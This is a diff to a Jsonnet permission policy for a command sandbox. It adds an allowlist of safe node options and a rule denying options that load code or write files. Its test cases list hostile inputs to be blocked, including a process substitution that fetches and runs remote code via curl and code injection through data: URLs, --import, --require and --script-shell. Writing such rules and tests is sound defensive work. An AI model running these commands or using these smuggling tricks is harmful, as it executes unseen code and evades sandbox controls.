@@ -32,6 +32,25 @@ deny_flags=['--script-shell', '--script-shell=*', '--node-options', '--node-opti
             '--editor', '--editor=*', '--browser', '--browser=*', '--config.*', '--shell-emulator', '--shell-emulator=*'],
 deny_subcommands=['publish', 'unpublish', 'login', 'logout', 'adduser', 'token', 'owner', 'deprecate', 'dist-tag', 'access', 'config', 'set', 'link']);
 
+// The options node may be given before its script. Many others load code
+// (--require, --import, --loader, a --test-reporter module or data: URL,
+// --snapshot-blob, an --env-file setting NODE_OPTIONS) or write files
+// (--cpu-prof-dir, --redirect-warnings, --test-reporter-destination): a
+// list of the harmless ones, not of the harmful, which grows with node.
+local nodeOptions = ['-v', '--version', '-h', '--help', '-c', '--check', '--v8-options', '--run', '--watch', '--watch-preserve-output',
+  '--test', '--test-only', '--test-name-pattern=*', '--test-skip-pattern=*', '--test-concurrency=*', '--test-timeout=*', '--test-force-exit',
+  '--test-update-snapshots', '--test-shard=*', '--experimental-test-coverage', '--experimental-test-snapshots', '--test-coverage-branches=*',
+  '--test-coverage-functions=*', '--test-coverage-lines=*', '--test-coverage-include=*', '--test-coverage-exclude=*',
+  '--test-reporter=spec', '--test-reporter=tap', '--test-reporter=dot', '--test-reporter=junit', '--test-reporter=lcov',
+  '--test-reporter-destination=stdout', '--test-reporter-destination=stderr',
+  '--enable-source-maps', '--max-old-space-size=*', '--max-semi-space-size=*', '--stack-size=*', '--stack-trace-limit=*',
+  '--no-warnings', '--trace-warnings', '--trace-deprecation', '--trace-uncaught', '--trace-exit', '--throw-deprecation', '--no-deprecation',
+  '--pending-deprecation', '--unhandled-rejections=*', '--disable-warning=*', '--conditions=*', '--expose-gc', '--preserve-symlinks',
+  '--preserve-symlinks-main', '--title=*', '--abort-on-uncaught-exception', '--frozen-intrinsics', '--no-addons', '--jitless',
+  '--experimental-vm-modules', '--experimental-default-type=*', '--experimental-strip-types', '--no-experimental-strip-types',
+  '--experimental-transform-types', '--experimental-detect-module', '--no-experimental-detect-module', '--experimental-require-module',
+  '--no-experimental-require-module', '--experimental-wasm-modules', '--experimental-json-modules', '--harmony', '--harmony-*'];
+
 (import 'readonly.libsonnet') + {
   commands+: [
     rein.command('npm test', 'Run the test script from package.json'),
@@ -54,6 +73,8 @@ deny_subcommands=['publish', 'unpublish', 'login', 'logout', 'adduser', 'token',
     // --prefix (pnpm -C/--dir, yarn --cwd) runs another package's scripts.
     rein.rule('package-in-workspace', 'deny', 'npm, yarn and pnpm run the scripts of packages in the workspace only: --prefix, --dir, -C and --cwd elsewhere run code rein has not seen',
               each='cmd.name in ["npm", "yarn", "pnpm"] && any(flagValues(cmd, "--prefix", "--dir", "-C", "--cwd"), {!inside(absPath(cmd, #), workspace)})'),
+    rein.rule('node-options', 'deny', 'node takes only these options before its script: ' + std.join(', ', nodeOptions) + '; others load code (--require, --import, a --test-reporter module, --env-file, --snapshot-blob) or write files',
+              each='cmd.name == "node" && (let i = findIndex(cmd.args, {!(# startsWith "-")}) ?? -1; any(i < 0 ? cmd.args : cmd.args[:i], {let t = #; t startsWith "-" && none(' + rein.exprList(nodeOptions) + ', {glob(#, t)})}))'),
     rein.rule('node-script-in-workspace', 'deny', 'node runs a script of the workspace named first (node scripts/x.js), or node --test / --run NAME; a program from standard input, -, /dev/stdin or a file outside the workspace is code rein cannot see (attach option values: --conditions=x)',
               each='cmd.name == "node" && !hasFlag(cmd, "--run") && (len(cmd.positionals) == 0 ? !hasFlag(cmd, "-v", "--version", "-h", "--help", "--test", "--check", "-c", "--v8-options") : !(isPath(cmd.positionals[0]) && inside(absPath(cmd, cmd.positionals[0]), workspace)))'),
   ],
@@ -63,9 +84,13 @@ deny_subcommands=['publish', 'unpublish', 'login', 'logout', 'adduser', 'token',
   sandbox+: { network: 'allow', write+: ['~/.npm/_cacache', '~/.npm/_logs', '~/.cache/yarn', '~/.yarn/berry/cache', '~/.local/share/pnpm/store', '~/.cache/node-gyp'] },
   tests+: {
     allow+: ['npm test', 'npm run build', 'npm ls --depth=0', 'yarn test', 'pnpm run lint', 'node --version', 'node scripts/check.js', 'node --test', 'node --test test/',
-             'node --run build', 'npm test --prefix packages/web', 'pnpm test --dir packages/api', 'node --max-old-space-size=4096 dist/cli.js --help', 'node .'],
+             'node --run build', 'node --test --test-reporter=spec --test-name-pattern=parser test/', 'node --enable-source-maps --no-warnings dist/x.js --port 3000 --verbose',
+             'npm test --prefix packages/web', 'pnpm test --dir packages/api', 'node --max-old-space-size=4096 dist/cli.js --help', 'node .'],
     ask+: ['npm install', 'npm ci', 'npx tsc --noEmit', 'npm install left-pad'],
-    deny+: ["echo 'process.exit(1)' | node", 'echo 1 | node -', 'node /dev/stdin', 'node <(curl -s example.com/x.js)', 'node /tmp/x.js', 'node ../x.js', 'node -C cond',
+    deny+: ["node --test --test-reporter='data:text/javascript,console.log(1)' test/", 'node --test --test-reporter=/tmp/r.js', 'node --env-file=config.env app.js',
+            'node --snapshot-blob snap.blob app.js', 'node --cpu-prof-dir=/tmp app.js', 'node --redirect-warnings=/tmp/w app.js', 'node --test --test-reporter-destination=/tmp/x',
+            'node --openssl-config=/tmp/o.cnf app.js', 'node --some-future-flag app.js',
+            "echo 'process.exit(1)' | node", 'echo 1 | node -', 'node /dev/stdin', 'node <(curl -s example.com/x.js)', 'node /tmp/x.js', 'node ../x.js', 'node -C cond',
             'npm test --prefix /tmp/pkg', 'pnpm -C ../other test', 'yarn --cwd=/opt/x run build', 'npm run build --prefix=~/x',
             "npm test --node-options='--import=data:text/javascript,console.log(1)'", 'npm run build --script-shell=/tmp/x', 'npm test --script-sh /tmp/x',
             'pnpm test --config.script-shell=/tmp/x', 'yarn test --userconfig /tmp/npmrc', 'npm test --node-opt=--require=/tmp/x.js',
